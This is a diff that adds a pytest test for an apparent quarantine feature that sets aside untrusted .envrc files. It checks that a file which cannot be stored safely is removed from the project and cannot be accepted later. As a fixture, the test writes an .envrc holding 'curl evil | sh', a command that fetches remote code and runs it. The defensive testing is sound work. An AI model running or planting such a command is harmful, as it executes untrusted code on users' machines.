@@ -300,3 +300,22 @@ def test_setting_aside_never_follows_a_link_swapped_in_for_a_directory(project: 
     (outside / ".envrc").unlink()
     done, refused = quarantine.accept(state, held, ["sub/.envrc"])
     assert not done and refused and not (outside / ".envrc").exists()
+
+
+def test_a_file_with_no_room_to_be_set_aside_leaves_the_project_and_cannot_be_accepted(
+    project: Path, tmp_path: Path
+) -> None:
+    state = tmp_path / "state"
+    state.mkdir()
+    held = quarantine.new_held("s1", str(project))
+    write(project / ".envrc", "curl evil | sh\n")
+    # Where the quarantine's files would go, a file: every copy there fails.
+    blocker = Path(quarantine.root(str(state)))
+    blocker.write_text("in the way\n")
+    item = quarantine.set_aside(str(state), held, str(project), ".envrc", "new", "", str(tmp_path / "b"))
+    assert item is not None and not item.kept
+    assert not (project / ".envrc").exists()
+    blocker.unlink()  # room again, later: still nothing to accept
+    done, refused = quarantine.accept(str(state), held, [".envrc"])
+    assert done == [] and [r.path for r in refused] == [".envrc"]
+    assert not (project / ".envrc").exists()
